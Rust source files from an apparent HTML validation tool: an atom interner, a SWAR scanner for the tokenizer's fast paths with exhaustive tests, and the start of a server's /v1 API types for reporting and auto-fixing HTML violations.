/// Total order used by the static index: `(first byte, length)` as plain
/// integers first, full text only as the tiebreak. Lookups run once per
/// attribute, so probe cost matters: under this order most binary-search
/// probes resolve on the two-integer key and only the last step or two pay
/// for a (short) memcmp.
fn atom_order(a: &str, b: &str) -> std::cmp::Ordering {
    let ka = (a.as_bytes().first().copied().unwrap_or(0), a.len());
    let kb = (b.as_bytes().first().copied().unwrap_or(0), b.len());
    ka.cmp(&kb).then_with(|| a.cmp(b))
}

/// Sorted index into [`STATIC_ATOMS`], built once on first lookup.
fn sorted_index() -> &'static [u16] {
    static INDEX: OnceLock<Vec<u16>> = OnceLock::new();
    INDEX.get_or_init(|| {
        let mut idx: Vec<u16> = (0..STATIC_ATOMS.len() as u16).collect();
        idx.sort_unstable_by(|&a, &b| {
            atom_order(STATIC_ATOMS[a as usize], STATIC_ATOMS[b as usize])
        });
        debug_assert!(
            idx.windows(2)
                .all(|w| atom_order(STATIC_ATOMS[w[0] as usize], STATIC_ATOMS[w[1] as usize])
                    == std::cmp::Ordering::Less),
            "duplicate entry in STATIC_ATOMS"
        );
        idx
    })
}

/// Look up a name in the static table.
fn lookup_static(name: &str) -> Option<u16> {
    let index = sorted_index();
    index
        .binary_search_by(|&i| atom_order(STATIC_ATOMS[i as usize], name))
        .ok()
        .map(|pos| index[pos])
}

/// An interned tag or attribute name. See the module docs for the
/// representation invariant that makes equality cheap.
#[derive(Clone)]
pub struct Atom(Repr);

#[derive(Clone)]
enum Repr {
    /// Index into [`STATIC_ATOMS`].
    Static(u16),
    /// A name outside the static table, shared via the per-parse interner.
    Dyn(Arc<str>),
}

impl Atom {
    /// Intern a name without an [`Interner`] (cold paths: tests, checker
    /// literals, fragment contexts). Unknown names allocate a fresh `Arc`.
    pub fn from_name(name: &str) -> Atom {
        match lookup_static(name) {
            Some(i) => Atom(Repr::Static(i)),
            None => Atom(Repr::Dyn(Arc::from(name))),
        }
    }

    /// Construct from a known static-table index (crate-internal: used by
    /// precomputed id→id maps like the SVG tag fixups).
    #[inline]
    pub(crate) fn from_static_id(id: u16) -> Atom {
        debug_assert!((id as usize) < STATIC_ATOMS.len());
        Atom(Repr::Static(id))
    }

    /// The atom's text.
    #[inline]
    pub fn as_str(&self) -> &str {
        match &self.0 {
            Repr::Static(i) => STATIC_ATOMS[*i as usize],
            Repr::Dyn(s) => s,
        }
    }

    /// Index into [`STATIC_ATOMS`] for known names, `None` for dynamic
    /// atoms. Classification bitsets key on this.
    #[inline]
    pub fn static_id(&self) -> Option<usize> {
        match &self.0 {
            Repr::Static(i) => Some(*i as usize),
            Repr::Dyn(_) => None,
        }
    }
}

impl Default for Atom {
    /// The empty name (`STATIC_ATOMS[0]`).
    fn default() -> Self {
        Atom(Repr::Static(0))
    }
}

impl Deref for Atom {
    type Target = str;
    #[inline]
    fn deref(&self) -> &str {
        self.as_str()
    }
}

impl AsRef<str> for Atom {
    fn as_ref(&self) -> &str {
        self.as_str()
    }
}

impl Borrow<str> for Atom {
    fn borrow(&self) -> &str {
        self.as_str()
    }
}

impl PartialEq for Atom {
    #[inline]
    fn eq(&self, other: &Atom) -> bool {
        match (&self.0, &other.0) {
            (Repr::Static(a), Repr::Static(b)) => a == b,
            // Module invariant: dynamic text is never in the static table,
            // so mixed comparisons are always unequal.
            (Repr::Static(_), Repr::Dyn(_)) | (Repr::Dyn(_), Repr::Static(_)) => false,
            (Repr::Dyn(a), Repr::Dyn(b)) => Arc::ptr_eq(a, b) || a == b,
        }
    }
}

impl Eq for Atom {}

impl PartialEq<str> for Atom {
    #[inline]
    fn eq(&self, other: &str) -> bool {
        self.as_str() == other
    }
}

impl PartialEq<&str> for Atom {
    #[inline]
    fn eq(&self, other: &&str) -> bool {
        self.as_str() == *other
    }
}

impl PartialEq<Atom> for str {
    fn eq(&self, other: &Atom) -> bool {
        self == other.as_str()
    }
}

impl PartialEq<Atom> for &str {
    fn eq(&self, other: &Atom) -> bool {
        *self == other.as_str()
    }
}

impl Hash for Atom {
    /// Hash the text (not the representation) so `Borrow<str>`-keyed maps
    /// and mixed static/dynamic sets behave like string keys.
    fn hash<H: Hasher>(&self, state: &mut H) {
        self.as_str().hash(state)
    }
}

impl fmt::Debug for Atom {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Debug::fmt(self.as_str(), f)
    }
}

impl fmt::Display for Atom {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl From<&str> for Atom {
    fn from(name: &str) -> Atom {
        Atom::from_name(name)
    }
}

impl From<&String> for Atom {
    fn from(name: &String) -> Atom {
        Atom::from_name(name)
    }
}

impl From<&Atom> for Atom {
    /// Cheap: an integer copy for static atoms, an `Arc` bump otherwise.
    fn from(atom: &Atom) -> Atom {
        atom.clone()
    }
}

/// Per-parse dedup set for names outside the static table. One lives in
/// the tokenizer; fresh per parse (see module docs).
pub struct Interner {
    dynamic: std::collections::HashSet<Arc<str>>,
    /// Direct-mapped memo over *all* intern results. Documents repeat the
    /// same handful of tag and attribute names over and over, so most
    /// interns become one string compare and a cheap clone instead of a
    /// static-table binary search (or a hash probe). Collisions just evict;
    /// correctness comes from the full-string compare on hit.
    cache: [Atom; CACHE_SLOTS],
}

const CACHE_SLOTS: usize = 64;

/// Slot for `name`: mixes first byte and length, the same two facts the
/// static table's comparator discriminates on first.
#[inline]
fn cache_slot(name: &str) -> usize {
    let first = name.as_bytes().first().copied().unwrap_or(0) as usize;
    (first ^ (name.len().wrapping_mul(37))) & (CACHE_SLOTS - 1)
}

impl Default for Interner {
    fn default() -> Interner {
        Interner {
            dynamic: std::collections::HashSet::new(),
            cache: std::array::from_fn(|_| Atom::default()),
        }
    }
}

impl Interner {
    pub fn new() -> Interner {
        Interner::default()
    }

    /// Intern `name`: memo hit, then static-table hit, then per-parse
    /// dedup, then a fresh shared allocation.
    pub fn intern(&mut self, name: &str) -> Atom {
        if name.is_empty() {
            return Atom::default();
        }
        let slot = cache_slot(name);
        if self.cache[slot].as_str() == name {
            return self.cache[slot].clone();
        }
        let atom = self.intern_uncached(name);
        self.cache[slot] = atom.clone();
        atom
    }

    fn intern_uncached(&mut self, name: &str) -> Atom {
        if let Some(i) = lookup_static(name) {
            return Atom(Repr::Static(i));
        }
        if let Some(existing) = self.dynamic.get(name) {
            return Atom(Repr::Dyn(existing.clone()));
        }
        let arc: Arc<str> = Arc::from(name);
        self.dynamic.insert(arc.clone());
        Atom(Repr::Dyn(arc))
    }
}

/// Max bytes stored inline in a [`SharedStr`]. 22 + length byte + enum tag
/// keeps the whole value at 24 bytes — the same size as the `String` it
/// replaces, with no heap behind it.
const INLINE_CAP: usize = 22;

/// An immutable, cheaply clonable string for attribute values: inline for
/// short text, shared (`Arc<str>`) beyond [`INLINE_CAP`].
#[derive(Clone)]
pub struct SharedStr(SRepr);

#[derive(Clone)]
enum SRepr {
    Inline { len: u8, buf: [u8; INLINE_CAP] },
    Heap(Arc<str>),
}

impl SharedStr {
    pub fn new(s: &str) -> SharedStr {
        if s.len() <= INLINE_CAP {
            let mut buf = [0u8; INLINE_CAP];
            buf[..s.len()].copy_from_slice(s.as_bytes());
            SharedStr(SRepr::Inline { len: s.len() as u8, buf })
        } else {
            SharedStr(SRepr::Heap(Arc::from(s)))
        }
    }

    #[inline]
    pub fn as_str(&self) -> &str {
        match &self.0 {
            SRepr::Inline { len, buf } => {
                // SAFETY: `buf[..len]` was copied verbatim from a `&str` in
                // `SharedStr::new` and never mutated afterwards (there is no
                // mutating API), so it is valid UTF-8.
                unsafe { std::str::from_utf8_unchecked(&buf[..*len as usize]) }
            }
            SRepr::Heap(s) => s,
        }
    }

    pub fn is_empty(&self) -> bool {
        self.as_str().is_empty()
    }

    pub fn len(&self) -> usize {
        self.as_str().len()
    }
}

impl Default for SharedStr {
    fn default() -> Self {
        SharedStr(SRepr::Inline { len: 0, buf: [0u8; INLINE_CAP] })
    }
}

impl Deref for SharedStr {
    type Target = str;
    #[inline]
    fn deref(&self) -> &str {
        self.as_str()
    }
}

impl AsRef<str> for SharedStr {
    fn as_ref(&self) -> &str {
        self.as_str()
    }
}

impl PartialEq for SharedStr {
    fn eq(&self, other: &SharedStr) -> bool {
        self.as_str() == other.as_str()
    }
}

impl Eq for SharedStr {}

impl PartialEq<str> for SharedStr {
    fn eq(&self, other: &str) -> bool {
        self.as_str() == other
    }
}

impl PartialEq<&str> for SharedStr {
    fn eq(&self, other: &&str) -> bool {
        self.as_str() == *other
    }
}

impl PartialEq<SharedStr> for str {
    fn eq(&self, other: &SharedStr) -> bool {
        self == other.as_str()
    }
}

impl PartialEq<SharedStr> for &str {
    fn eq(&self, other: &SharedStr) -> bool {
        *self == other.as_str()
    }
}

impl Hash for SharedStr {
    fn hash<H: Hasher>(&self, state: &mut H) {
        self.as_str().hash(state)
    }
}

impl fmt::Debug for SharedStr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Debug::fmt(self.as_str(), f)
    }
}

impl fmt::Display for SharedStr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl From<&str> for SharedStr {
    fn from(s: &str) -> SharedStr {
        SharedStr::new(s)
    }
}

impl From<String> for SharedStr {
    fn from(s: String) -> SharedStr {
        if s.len() <= INLINE_CAP {
            SharedStr::new(&s)
        } else {
            // Reuses the String's buffer when capacity allows.
            SharedStr(SRepr::Heap(Arc::from(s)))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn static_table_is_unique() {
        let mut sorted: Vec<&str> = STATIC_ATOMS.to_vec();
        sorted.sort_unstable();
        for w in sorted.windows(2) {
            assert_ne!(w[0], w[1], "duplicate static atom {:?}", w[0]);
        }
    }

    #[test]
    fn known_names_are_static() {
        for name in ["div", "img", "svg", "foreignObject", "annotation-xml", "href", "viewBox"] {
            let atom = Atom::from_name(name);
            assert!(atom.static_id().is_some(), "{name} should be static");
            assert_eq!(atom, name);
        }
    }

    #[test]
    fn unknown_names_are_dynamic_and_roundtrip() {
        let atom = Atom::from_name("x-custom-widget");
        assert!(atom.static_id().is_none());
        assert_eq!(atom.as_str(), "x-custom-widget");
        assert_eq!(atom, "x-custom-widget");
    }

    #[test]
    fn equality_static_vs_dynamic_text() {
        // A dynamic atom can only hold non-static text, so this is about
        // distinct names comparing unequal and same-name dynamic atoms
        // comparing equal.
        let mut interner = Interner::new();
        let a = interner.intern("frobnicate");
        let b = interner.intern("frobnicate");
        assert_eq!(a, b);
        assert!(Arc::ptr_eq(
            match &a.0 {
                Repr::Dyn(s) => s,
                _ => panic!(),
            },
            match &b.0 {
                Repr::Dyn(s) => s,
                _ => panic!(),
            }
        ));
        assert_ne!(a, Atom::from_name("div"));
    }

    #[test]
    fn interner_static_first() {
        let mut interner = Interner::new();
        assert!(interner.intern("div").static_id().is_some());
        assert!(interner.intern("DIV").static_id().is_none(), "lookup is case-sensitive");
    }

    #[test]
    fn hash_matches_str_hash() {
        use std::collections::hash_map::DefaultHasher;
        fn h(v: impl Hash) -> u64 {
            let mut s = DefaultHasher::new();
            v.hash(&mut s);
            s.finish()
        }
        assert_eq!(h(Atom::from_name("div")), h("div"));
        assert_eq!(h(Atom::from_name("x-unknown")), h("x-unknown"));
    }

    #[test]
    fn shared_str_inline_and_heap() {
        let short = SharedStr::new("hello");
        assert!(matches!(short.0, SRepr::Inline { .. }));
        assert_eq!(short, "hello");

        let exactly = SharedStr::new("0123456789012345678901"); // 22 bytes
        assert!(matches!(exactly.0, SRepr::Inline { .. }));
        assert_eq!(exactly.len(), 22);

        let long = SharedStr::new("this string is longer than twenty-two bytes");
        assert!(matches!(long.0, SRepr::Heap(_)));
        assert_eq!(long, "this string is longer than twenty-two bytes");

        // Multi-byte UTF-8 survives the inline path.
        let uni = SharedStr::new("héllo ✓");
        assert_eq!(uni.as_str(), "héllo ✓");
    }

    #[test]
    fn shared_str_equality_across_reprs() {
        let s = "0123456789012345678901x"; // 23 bytes -> heap
        let heap = SharedStr::new(s);
        let trimmed = SharedStr::new(&s[..22]);
        assert_ne!(heap, trimmed);
        assert_eq!(heap.clone(), heap);
    }
}
