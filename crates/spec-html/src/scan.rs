//! SWAR batch scanning for the tokenizer's inert-character fast paths.
//!
//! The tokenizer spends nearly all of its time in states (Data, RCDATA,
//! RAWTEXT, script data, PLAINTEXT, comments, quoted attribute values)
//! whose per-character behaviour is "append the character and stay" for
//! everything except a handful of delimiters. [`plain_prefix_len`] finds
//! the longest such run in one pass over the raw bytes, eight bytes per
//! `u64` word (the SWAR technique of Langdale & Lemire's simdjson and
//! Mycroft's classic has-zero-byte trick), so the tokenizer can append a
//! whole `&str` slice instead of looping `char` by `char`.
//!
//! A byte is *plain* — safe to batch without consulting the state machine
//! or the input-stream preprocessor — iff all of:
//!
//! * it is ASCII and not DEL (`0x20..=0x7E`), or one of the three allowed
//!   control characters TAB/LF/FF. This excludes NUL and CR (which the
//!   preprocessor/tokenizer rewrite), every control character the
//!   preprocessor must report, and all non-ASCII bytes (C1 controls and
//!   noncharacters are multi-byte in UTF-8; their *lead* byte stops the
//!   scan and the scalar path decodes and reports them);
//! * it is not one of the caller's state-specific `delims` (`<`, `&`,
//!   `-`, or a quote, depending on the state).

const LO: u64 = 0x0101_0101_0101_0101;
const HI: u64 = 0x8080_8080_8080_8080;

/// Every byte lane set to `b`.
#[inline]
const fn splat(b: u8) -> u64 {
    LO * b as u64
}

/// 0x80 in each lane whose byte is zero, and *only* those lanes.
///
/// Not Mycroft's `(x - LO) & !x & HI`: that one is exact as a whole-word
/// predicate but can set a spurious bit in a `0x01` lane that sits above a
/// borrowing (zero) lane — e.g. the word for `"\n\x0B..."` xored with
/// `splat(b'\n')` marks the `0x0B` lane as "equal to LF", which would let a
/// reportable control character slip into a plain run. The per-lane
/// `(x & 0x7F) + 0x7F` form never carries across lanes, so it is exact.
#[inline]
const fn has_zero(x: u64) -> u64 {
    !((x & !HI).wrapping_add(!HI) | x) & HI
}

/// 0x80 in each lane whose byte equals `b` (exact).
#[inline]
const fn has_value(x: u64, b: u8) -> u64 {
    has_zero(x ^ splat(b))
}

/// 0x80 in each lane whose byte is `< n`, and *only* those lanes (exact for
/// `n <= 0x80`). Setting bit 7 of every lane before subtracting keeps each
/// lane's borrow to itself — the textbook `(x - splat(n)) & !x & HI` lets a
/// TAB/LF lane (plain, but `< 0x20`) borrow into a following space lane and
/// falsely stop the run, which would de-batch every `"\n  <indent>"` in
/// pretty-printed HTML.
#[inline]
const fn has_less(x: u64, n: u8) -> u64 {
    !(x | HI).wrapping_sub(splat(n)) & !x & HI
}

/// Whether `b` is plain with respect to `delims` (scalar reference, also
/// used for the unaligned tail).
#[inline]
fn is_plain(b: u8, delims: &[u8]) -> bool {
    let shape_ok = matches!(b, 0x20..=0x7E | b'\t' | b'\n' | 0x0C);
    shape_ok && !delims.contains(&b)
}

/// Length of the longest prefix of `bytes` consisting only of plain bytes
/// (see the module docs). `delims` is the state's delimiter set, at most a
/// few bytes; each extra delimiter costs three ALU ops per 8-byte word.
pub fn plain_prefix_len(bytes: &[u8], delims: &[u8]) -> usize {
    let mut i = 0;
    let mut chunks = bytes.chunks_exact(8);
    for chunk in &mut chunks {
        let w = u64::from_le_bytes(chunk.try_into().unwrap());
        // Non-ASCII (lead or continuation) and DEL.
        let mut stops = (w & HI) | has_value(w, 0x7F);
        // C0 controls minus TAB/LF/FF; this also catches NUL and CR.
        stops |=
            has_less(w, 0x20) & !(has_value(w, b'\t') | has_value(w, b'\n') | has_value(w, 0x0C));
        for &d in delims {
            stops |= has_value(w, d);
        }
        if stops != 0 {
            // Lanes are little-endian: the first stop byte is the lowest
            // set 0x80 bit.
            return i + (stops.trailing_zeros() / 8) as usize;
        }
        i += 8;
    }
    for &b in chunks.remainder() {
        if !is_plain(b, delims) {
            return i;
        }
        i += 1;
    }
    bytes.len()
}

/// Whether `b` can be batch-appended in a *name-like* state (scalar
/// reference and unaligned tail). Name-like runs are strictly printable
/// ASCII (`0x21..=0x7E`): whitespace always terminates these states, so
/// unlike [`is_plain`] there is no TAB/LF/FF allowance — which also means
/// every batched byte is exactly one character and one column. Uppercase
/// letters batch too: the name states lowercase the appended slice in
/// place, which is byte-for-byte what the scalar `to_ascii_lowercase`
/// per-character path produces.
#[inline]
fn is_name_plain(b: u8, delims: &[u8]) -> bool {
    matches!(b, 0x21..=0x7E) && !delims.contains(&b)
}

/// Delimiters of the AttributeName state: `/`/`>` end the tag machinery,
/// `=` separates the value, and `"`/`'`/`<` are in-name error characters
/// the scalar path must report.
const ATTR_NAME_DELIMS: &[u8] = b"/>=\"'<";

/// Whether `b` can *start* an attribute name — used by the fused
/// BeforeAttributeName fast path to decide it may open an attribute
/// without bouncing through the scalar state machine. Exactly the bytes
/// [`attr_name_prefix_len`] would batch.
#[inline]
pub fn is_attr_name_start(b: u8) -> bool {
    is_name_plain(b, ATTR_NAME_DELIMS)
}

/// Length of the longest prefix batchable in a name-like tokenizer state
/// (TagName, AttributeName, unquoted AttributeValue). Stops at anything
/// outside printable ASCII (controls, NUL, CR, DEL, non-ASCII — the bytes
/// the preprocessor or state machine must see) and at every `delims` byte.
pub fn name_prefix_len(bytes: &[u8], delims: &[u8]) -> usize {
    let mut i = 0;
    let mut chunks = bytes.chunks_exact(8);
    for chunk in &mut chunks {
        let w = u64::from_le_bytes(chunk.try_into().unwrap());
        // Outside 0x21..=0x7E: non-ASCII, DEL, and everything below '!'.
        let mut stops = (w & HI) | has_value(w, 0x7F) | has_less(w, 0x21);
        for &d in delims {
            stops |= has_value(w, d);
        }
        if stops != 0 {
            return i + (stops.trailing_zeros() / 8) as usize;
        }
        i += 8;
    }
    for &b in chunks.remainder() {
        if !is_name_plain(b, delims) {
            return i;
        }
        i += 1;
    }
    bytes.len()
}

/// [`name_prefix_len`] for the TagName state: `/` and `>` hand control
/// back.
#[inline]
pub fn tag_name_prefix_len(bytes: &[u8]) -> usize {
    name_prefix_len(bytes, b"/>")
}

/// [`name_prefix_len`] for the AttributeName state (see
/// [`ATTR_NAME_DELIMS`]).
#[inline]
pub fn attr_name_prefix_len(bytes: &[u8]) -> usize {
    name_prefix_len(bytes, ATTR_NAME_DELIMS)
}

/// [`name_prefix_len`] for the unquoted AttributeValue state: `&` starts a
/// character reference, `>` closes the tag, and `"`/`'`/`<`/`=`/`` ` `` are
/// in-value error characters.
#[inline]
pub fn unquoted_value_prefix_len(bytes: &[u8]) -> usize {
    name_prefix_len(bytes, b"&>\"'<=`")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Byte-at-a-time reference implementation.
    fn reference(bytes: &[u8], delims: &[u8]) -> usize {
        bytes.iter().position(|&b| !is_plain(b, delims)).unwrap_or(bytes.len())
    }

    /// Byte-at-a-time reference for the name-like scans.
    fn name_reference(bytes: &[u8], delims: &[u8]) -> usize {
        bytes.iter().position(|&b| !is_name_plain(b, delims)).unwrap_or(bytes.len())
    }

    #[test]
    fn empty_and_all_plain() {
        assert_eq!(plain_prefix_len(b"", b"<"), 0);
        assert_eq!(plain_prefix_len(b"hello world, plain ascii text!", b"<&"), 30);
    }

    #[test]
    fn stops_at_delimiters_in_any_position() {
        for pos in 0..40 {
            let mut v = vec![b'a'; 40];
            v[pos] = b'<';
            assert_eq!(plain_prefix_len(&v, b"<&"), pos, "pos {pos}");
            v[pos] = b'&';
            assert_eq!(plain_prefix_len(&v, b"<&"), pos);
            // Not in the delimiter set: no stop.
            v[pos] = b'-';
            assert_eq!(plain_prefix_len(&v, b"<&"), 40);
        }
    }

    #[test]
    fn stops_at_controls_nul_cr_del_and_non_ascii() {
        for stop in [0x00u8, 0x01, 0x08, 0x0B, 0x0D, 0x1F, 0x7F, 0x80, 0xC3, 0xEF, 0xFF] {
            let v = [b'x', b'y', stop, b'z'];
            assert_eq!(plain_prefix_len(&v, &[]), 2, "byte {stop:#x}");
        }
    }

    #[test]
    fn tab_lf_ff_are_plain() {
        assert_eq!(plain_prefix_len(b"a\tb\nc\x0Cd", b"<"), 7);
    }

    #[test]
    fn matches_reference_on_dense_byte_sweep() {
        // Every byte value, at every alignment within a word, against the
        // delimiter sets the tokenizer actually uses.
        let delim_sets: &[&[u8]] = &[&[], b"<", b"&<", b"<-", b"\"&", b"'&"];
        for &delims in delim_sets {
            for b in 0u8..=255 {
                for pos in 0..17 {
                    let mut v = vec![b'p'; 17];
                    v[pos] = b;
                    assert_eq!(
                        plain_prefix_len(&v, delims),
                        reference(&v, delims),
                        "byte {b:#x} at {pos}, delims {delims:?}"
                    );
                }
            }
        }
    }

    #[test]
    fn matches_reference_on_adjacent_byte_pairs() {
        // SWAR subtraction borrows couple *adjacent* lanes, so single-byte
        // sweeps cannot catch per-lane inexactness (the `"\n\x0B"` bug: LF's
        // zero lane borrowed into the 0x0B lane of `w ^ splat(b'\n')`,
        // falsely un-stopping a control character). Exhaust all ordered
        // pairs at both in-word alignments.
        for a in 0u8..=255 {
            for b in 0u8..=255 {
                for pos in [0usize, 5] {
                    let mut v = vec![b'p'; 10];
                    v[pos] = a;
                    v[pos + 1] = b;
                    for delims in [&[b'&', b'<'][..], &[][..]] {
                        assert_eq!(
                            plain_prefix_len(&v, delims),
                            reference(&v, delims),
                            "pair {a:#x},{b:#x} at {pos}, delims {delims:?}"
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn name_scan_basics() {
        assert_eq!(tag_name_prefix_len(b"div>"), 3);
        assert_eq!(tag_name_prefix_len(b"div id=x>"), 3); // stops at space
        assert_eq!(tag_name_prefix_len(b"br/>"), 2);
        assert_eq!(tag_name_prefix_len(b"DIV>"), 3); // batched, lowercased in place
        assert_eq!(tag_name_prefix_len(b"x-widget attr"), 8);

        assert_eq!(attr_name_prefix_len(b"data-key=1"), 8);
        assert_eq!(attr_name_prefix_len(b"checked>"), 7);
        assert_eq!(attr_name_prefix_len(b"a\"b"), 1); // error char -> scalar
        assert_eq!(attr_name_prefix_len(b"Xyz"), 3); // batched, lowercased in place

        assert!(is_attr_name_start(b'a'));
        assert!(is_attr_name_start(b'D'));
        assert!(!is_attr_name_start(b' '));
        assert!(!is_attr_name_start(b'='));
        assert!(!is_attr_name_start(b'>'));
        assert!(!is_attr_name_start(b'/'));
        assert!(!is_attr_name_start(0x80));

        assert_eq!(unquoted_value_prefix_len(b"v42 next"), 3);
        assert_eq!(unquoted_value_prefix_len(b"UPPER-ok>"), 8); // case kept
        assert_eq!(unquoted_value_prefix_len(b"a&amp;b"), 1);
        assert_eq!(unquoted_value_prefix_len(b"q`r"), 1);
    }

    #[test]
    fn name_scan_matches_reference_on_dense_byte_sweep() {
        // Every byte value at every in-word alignment, for each of the
        // three delimiter configurations the tokenizer uses.
        let configs: &[&[u8]] = &[b"/>", b"/>=\"'<", b"&>\"'<=`"];
        for &delims in configs {
            for b in 0u8..=255 {
                for pos in 0..17 {
                    let mut v = vec![b'p'; 17];
                    v[pos] = b;
                    assert_eq!(
                        name_prefix_len(&v, delims),
                        name_reference(&v, delims),
                        "byte {b:#x} at {pos}, delims {delims:?}"
                    );
                }
            }
        }
    }

    #[test]
    fn name_scan_matches_reference_on_adjacent_byte_pairs() {
        // Same adjacent-lane exhaustion as the plain scan: `has_less` is
        // built from a borrow-free form, and this proves no cross-lane
        // coupling slipped in.
        for a in 0u8..=255 {
            for b in 0u8..=255 {
                for pos in [0usize, 5] {
                    let mut v = vec![b'p'; 10];
                    v[pos] = a;
                    v[pos + 1] = b;
                    for &delims in &[&b"/>"[..], &b"&>\"'<=`"[..]] {
                        assert_eq!(
                            name_prefix_len(&v, delims),
                            name_reference(&v, delims),
                            "pair {a:#x},{b:#x} at {pos}"
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn matches_reference_on_pseudorandom_buffers() {
        // Deterministic xorshift buffers of many lengths/alignments.
        let mut state = 0x9E37_79B9u32;
        let mut rand = move || {
            state ^= state << 13;
            state ^= state >> 17;
            state ^= state << 5;
            state
        };
        for len in 0..70 {
            let buf: Vec<u8> = (0..len).map(|_| (rand() & 0xFF) as u8).collect();
            for delims in [&[b'<', b'&'][..], &[][..]] {
                assert_eq!(plain_prefix_len(&buf, delims), reference(&buf, delims), "{buf:?}");
            }
        }
    }
}
