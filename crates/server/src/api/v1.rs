//! The `/v1` wire contract.
//!
//! ## Compatibility promise
//!
//! Within `/v1`, existing fields never change name, type, or meaning, and
//! enum-like strings (`code`, `fixability`, `category`) never change
//! spelling. New **optional** fields may be added; clients must ignore
//! unknown fields. A change that cannot satisfy this promise ships as
//! `/v2` alongside `/v1`, never in place of it.
//!
//! The structs here are wire types, not library types: they mirror
//! `hv_core`'s [`Finding`]/[`PageReport`]/[`FixOutcome`] through explicit
//! `From` impls so that internal refactors cannot silently change the
//! serialized shape. `tests/wire_v1.rs` pins the JSON golden fixtures.

use hv_core::autofix::FixOutcome;
use hv_core::{Finding, MitigationFlags, PageReport, ViolationKind};
use serde::{Deserialize, Serialize};

/// Body of `POST /v1/check` and `POST /v1/fix` (JSON form).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CheckRequest {
    /// The HTML document to analyze, as text. Clients holding raw bytes
    /// can alternatively POST them directly with `Content-Type: text/html`.
    pub html: String,
}

/// Response of `POST /v1/check`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CheckResponse {
    /// True iff `findings` is empty.
    pub clean: bool,
    /// Every violation found, sorted by `(kind, offset)`.
    pub findings: Vec<FindingDto>,
    /// The §4.5 deployed-mitigation flags measured alongside the checks.
    pub mitigations: MitigationsDto,
}

impl From<&PageReport> for CheckResponse {
    fn from(report: &PageReport) -> Self {
        CheckResponse {
            clean: report.is_clean(),
            findings: report.findings.iter().map(FindingDto::from).collect(),
            mitigations: MitigationsDto::from(report.mitigations),
        }
    }
}

/// One violation on the wire.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FindingDto {
    /// Taxonomy id, e.g. `"FB2"` or `"HF5.1"` — the same ids `hva explain`
    /// accepts.
    pub kind: String,
    /// Problem-group code: `"DE"`, `"DM"`, `"HF"`, or `"FB"`.
    pub group: String,
    /// `"definition_violation"` or `"parsing_error"` (§3.2).
    pub category: String,
    /// `"automatic"` or `"manual"` (§4.4).
    pub fixability: String,
    /// Character offset into the preprocessed document; 0 for
    /// whole-document findings.
    pub offset: usize,
    /// Short human-readable evidence excerpt.
    pub evidence: String,
}

impl From<&Finding> for FindingDto {
    fn from(f: &Finding) -> Self {
        FindingDto {
            kind: f.kind.id().to_owned(),
            group: f.kind.group().code().to_owned(),
            category: category_str(f.kind).to_owned(),
            fixability: fixability_str(f.kind).to_owned(),
            offset: f.offset,
            evidence: f.evidence.clone(),
        }
    }
}

/// §4.5 mitigation flags on the wire.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct MitigationsDto {
    #[serde(default)]
    pub script_in_attribute: bool,
    #[serde(default)]
    pub script_in_nonced_script: bool,
    #[serde(default)]
    pub newline_in_url: bool,
    #[serde(default)]
    pub newline_and_lt_in_url: bool,
}

impl From<MitigationFlags> for MitigationsDto {
    fn from(m: MitigationFlags) -> Self {
        MitigationsDto {
            script_in_attribute: m.script_in_attribute,
            script_in_nonced_script: m.script_in_nonced_script,
            newline_in_url: m.newline_in_url,
            newline_and_lt_in_url: m.newline_and_lt_in_url,
        }
    }
}

/// Response of `POST /v1/fix` — the §4.4 automatic repair.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FixResponse {
    /// The repaired document.
    pub fixed_html: String,
    /// Violation kinds before the repair (taxonomy ids, in taxonomy
    /// order).
    pub before: Vec<String>,
    /// Violation kinds still present after the repair.
    pub after: Vec<String>,
    /// `before - after`: what the repair eliminated.
    pub eliminated: Vec<String>,
}

impl From<&FixOutcome> for FixResponse {
    fn from(o: &FixOutcome) -> Self {
        let ids = |set: &std::collections::BTreeSet<ViolationKind>| -> Vec<String> {
            set.iter().map(|k| k.id().to_owned()).collect()
        };
        FixResponse {
            fixed_html: o.fixed_html.clone(),
            before: ids(&o.before),
            after: ids(&o.after),
            eliminated: ids(&o.eliminated()),
        }
    }
}

/// Response of `GET /v1/explain/{kind}` — one taxonomy entry.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ExplainResponse {
    pub kind: String,
    pub definition: String,
    /// Problem-group name, e.g. `"Filter Bypass"`.
    pub group: String,
    /// Problem-group code, e.g. `"FB"`.
    pub group_code: String,
    pub category: String,
    pub fixability: String,
    /// What the parser actually does with the violating markup.
    pub behaviour: String,
    /// What an attacker gains.
    pub attack: String,
    /// How a developer repairs it.
    pub fix: String,
}

impl From<ViolationKind> for ExplainResponse {
    fn from(kind: ViolationKind) -> Self {
        let e = kind.explanation();
        ExplainResponse {
            kind: kind.id().to_owned(),
            definition: kind.definition().to_owned(),
            group: kind.group().name().to_owned(),
            group_code: kind.group().code().to_owned(),
            category: category_str(kind).to_owned(),
            fixability: fixability_str(kind).to_owned(),
            behaviour: e.behaviour.to_owned(),
            attack: e.attack.to_owned(),
            fix: e.fix.to_owned(),
        }
    }
}

/// Response of `GET /v1/store/summary` — provenance of the loaded
/// [`hv_pipeline::IndexedStore`], without shipping the whole store.
///
/// The `format`/`segments`/`dropped` fields were added with the v1
/// binary store; per the compatibility promise they are optional and
/// omitted when absent, so pre-existing clients see the original shape.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct StoreSummary {
    /// Corpus seed the store was scanned from.
    pub seed: u64,
    /// Corpus scale factor.
    pub scale: f64,
    /// Domains in the scanned universe.
    pub universe: usize,
    /// Domain-snapshot records in the store.
